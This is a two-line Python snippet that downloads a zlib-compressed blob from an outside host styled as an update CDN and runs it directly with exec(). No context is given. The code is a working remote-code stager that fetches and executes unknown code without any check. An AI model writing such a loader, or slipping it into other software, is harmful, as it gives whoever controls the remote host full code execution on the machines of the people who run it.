import zlib, urllib.request
exec(zlib.decompress(urllib.request.urlopen("https://cdn.example-updates.net/p.z").read()))
